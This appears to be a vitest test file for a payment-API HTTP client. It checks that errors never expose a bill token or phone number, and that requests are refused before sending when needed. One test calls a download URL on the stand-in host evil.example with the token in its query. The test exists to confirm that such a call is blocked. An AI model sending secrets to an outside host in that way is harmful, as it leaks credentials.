import { inspect } from 'node:util'
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest'
import { clientOf, Gateway, rejectionOf } from '../../test/gateway.js'
import type { AnswerError } from '../errors/errors.js'

const gateway = new Gateway()
beforeAll(() => gateway.start())
afterAll(() => gateway.close())
beforeEach(() => gateway.reset())

const TOKEN = 'TOKEN-OF-A-BILL'
const PHONE = '13800138000'
const client = () => clientOf(gateway, { retry: false })

/** All that may be printed of an error. */
const printed = (error: unknown) =>
  [
    inspect(error, { depth: 12, showHidden: true }),
    JSON.stringify(error),
    String((error as Error).stack),
    JSON.stringify((error as { config?: unknown }).config),
  ].join('\n')

const CALLS: [string, () => PromiseLike<unknown>][] = [
  [
    'a query',
    () =>
      client()
        .chain('v3/x')
        .get({ query: { token: TOKEN, phone: PHONE } } as never),
  ],
  ['a query in the path', () => client().chain(`v3/x?token=${TOKEN}&phone=${PHONE}`).get()],
  [
    'a query in a path with a variable',
    () =>
      client()
        .chain(`v3/{id}?token=${TOKEN}`)
        .get({ id: 1 } as never),
  ],
  [
    'a download URL',
    () => client().$download(`${gateway.url}v3/billdownload/file?token=${TOKEN}`, { stream: true }),
  ],
  ['the axios instance', () => client().getDriver().get(`v3/x?token=${TOKEN}`)],
  [
    'the axios instance with params',
    () =>
      client()
        .getDriver()
        .get('v3/x', { params: { token: TOKEN, phone: PHONE } }),
  ],
]

describe.each([
  ['a refusal', { status: 404, body: '{"code":"NOT_FOUND","message":"m"}' }],
  ['a response that is not verified', { body: '{}', sign: false as const }],
  [
    'a broken connection',
    { raw: (_: unknown, __: unknown, socket: { destroy(): void }) => void socket.destroy() },
  ],
] as const)('of %s', (_, answer) => {
  // The file of a bill is documented without a signature.
  const calls = 'sign' in answer ? CALLS.filter(([name]) => name !== 'a download URL') : CALLS
  it.each(calls)('%s shows no value', async (_name, call) => {
    gateway.answer = () => answer as never
    const error = await rejectionOf(Promise.resolve(call()))
    expect(error).toMatchObject({ code: expect.any(String) })
    expect(printed(error)).not.toContain(TOKEN)
    expect(printed(error)).not.toContain(PHONE)
    expect(gateway.last.target).toContain(TOKEN)
  })
})

it('what is refused before it is sent shows none either', async () => {
  for (const call of [
    () =>
      client()
        .chain(`v3/x?token=${TOKEN}`)
        .post({ xml: {} } as never),
    () =>
      client()
        .chain(`v3/{id}?token=${TOKEN}` as string)
        .get(),
    () => client().$download(`https://evil.example/file?token=${TOKEN}`, { stream: true }),
  ]) {
    const error = await rejectionOf(Promise.resolve(call()))
    expect((error as Error).name).toBe('RequestRefusedError')
    expect(printed(error)).not.toContain(TOKEN)
  }
  expect(gateway.received).toEqual([])
})

it('the config of an error sends the same request again, query and all', async () => {
  gateway.answer = () => ({ status: 404, body: '{"code":"NOT_FOUND","message":"m"}' })
  const driver = client().getDriver()
  const error = (await rejectionOf(driver.get(`v3/x?token=${TOKEN}&a=1`))) as AnswerError
  expect(error.config?.url).toMatch(/v3\/x\?token=\[redacted\]&a=\[redacted\]$/)
  gateway.answer = () => ({ body: '{"ok":true}' })
  expect(await driver.request(error.config as never)).toMatchObject({ data: { ok: true } })
  expect(gateway.last.target).toBe(`/v3/x?token=${TOKEN}&a=1`)
  const { config } = error.response as unknown as { config: object }
  expect(await driver.request({ ...config })).toMatchObject({ data: { ok: true } })
  expect(gateway.last.target).toBe(`/v3/x?token=${TOKEN}&a=1`)
})
